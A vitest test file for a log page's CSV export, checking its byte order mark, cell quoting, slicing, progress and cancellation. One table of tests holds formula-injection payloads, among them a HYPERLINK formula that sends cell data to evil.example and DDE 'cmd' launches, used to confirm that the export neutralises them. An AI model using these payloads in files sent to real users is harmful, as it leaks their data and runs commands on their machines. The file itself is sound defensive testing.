/**
 * The CSV file byte for byte, against expectations written out by hand: nothing here is computed
 * with the export's own rules, so a rule dropped from the export fails a line below.
 */
import { describe, expect, it } from 'vitest'
import { buildCsv } from '@/logPage/export/csv'

/** The file as text, its byte order mark kept. */
async function fileText(blob: Blob) {
  return new TextDecoder('utf-8', { ignoreBOM: true }).decode(await blob.arrayBuffer())
}

async function csvOf(header: string[], rows: string[][], sliceSize?: number) {
  return fileText(await buildCsv({ header, rowCount: rows.length, row: (i) => rows[i]!, sliceSize }))
}

describe('the CSV export', () => {
  it('starts with the UTF-8 byte order mark, so Excel reads the accents', async () => {
    const blob = await buildCsv({ header: ['Wiadomość'], rowCount: 1, row: () => ['Błąd'] })
    const bytes = new Uint8Array(await blob.arrayBuffer())
    expect(Array.from(bytes.slice(0, 3))).toEqual([0xef, 0xbb, 0xbf])
    expect(blob.type).toBe('text/csv;charset=utf-8')
    expect(await fileText(blob)).toBe('\uFEFF"Wiadomość"\r\n"Błąd"')
  })

  it('quotes every cell, doubles quotes, and keeps commas and line breaks inside the cell', async () => {
    const csv = await csvOf(
      ['Date', 'Message', 'Count'],
      [
        ['2026-11-10 09:15:00', 'line one\nline "two", with comma', '3'],
        ['2026-11-10 09:16:00', 'Windows\r\nline; and "quotes"', ''],
      ],
    )
    expect(csv).toBe(
      '\uFEFF"Date","Message","Count"\r\n' +
        '"2026-11-10 09:15:00","line one\nline ""two"", with comma","3"\r\n' +
        '"2026-11-10 09:16:00","Windows\r\nline; and ""quotes""",""',
    )
  })

  // OWASP "CSV Injection": a cell must not start with =, +, -, @, tab or carriage return.
  it.each([
    ['=', '=HYPERLINK("http://evil.example/?d="&A1,"x")', `"'=HYPERLINK(""http://evil.example/?d=""&A1,""x"")"`],
    ['+', "+cmd|' /C calc'!A0", `"'+cmd|' /C calc'!A0"`],
    ['-', "-2+3+cmd|' /C calc'!A0", `"'-2+3+cmd|' /C calc'!A0"`],
    ['@', "@SUM(1+1)*cmd|' /C calc'!A0", `"'@SUM(1+1)*cmd|' /C calc'!A0"`],
    ['tab', '\t=1+1', `"'\t=1+1"`],
    ['carriage return', '\r=1+1', `"'\r=1+1"`],
    ['= (a cell of several lines)', '=1+1\nsecond line', `"'=1+1\nsecond line"`],
  ])('neutralises a cell starting with %s by a leading apostrophe', async (_, cell, written) => {
    expect(await csvOf(['Message'], [[cell]])).toBe(`\uFEFF"Message"\r\n${written}`)
  })

  it('checks every cell of a row, not only the first', async () => {
    expect(await csvOf(['Date', 'Message', 'Detailed'], [['2026-11-10', '@SUM(1)', '-1']])).toBe(
      `\uFEFF"Date","Message","Detailed"\r\n"2026-11-10","'@SUM(1)","'-1"`,
    )
  })

  it('leaves cells that only hold those characters later on as they are', async () => {
    const safe = [
      'safe = 1',
      'mail@example.com',
      '2026-11-10',
      'Price 10 - 2',
      'Reason:\n=1+1 is text here',
      "it's",
      '',
    ]
    expect(
      await csvOf(
        ['Message'],
        safe.map((cell) => [cell]),
      ),
    ).toBe(
      '\uFEFF"Message"\r\n' +
        '"safe = 1"\r\n' +
        '"mail@example.com"\r\n' +
        '"2026-11-10"\r\n' +
        '"Price 10 - 2"\r\n' +
        '"Reason:\n=1+1 is text here"\r\n' +
        `"it's"\r\n` +
        '""',
    )
  })

  it('writes every row once and in order across slices, reporting progress after each', async () => {
    const progress: number[] = []
    const blob = await buildCsv({
      header: ['Id'],
      rowCount: 5,
      row: (i) => [`r${i + 1}`],
      sliceSize: 2,
      onProgress: (done, total) => progress.push(done, total),
    })
    expect(await fileText(blob)).toBe('\uFEFF"Id"\r\n"r1"\r\n"r2"\r\n"r3"\r\n"r4"\r\n"r5"')
    expect(progress).toEqual([2, 5, 4, 5, 5, 5])
  })

  it('stops when cancelled', async () => {
    const controller = new AbortController()
    controller.abort()
    await expect(
      buildCsv({ header: ['Id'], rowCount: 1, row: () => ['1'], signal: controller.signal }),
    ).rejects.toMatchObject({ name: 'AbortError' })
  })
})
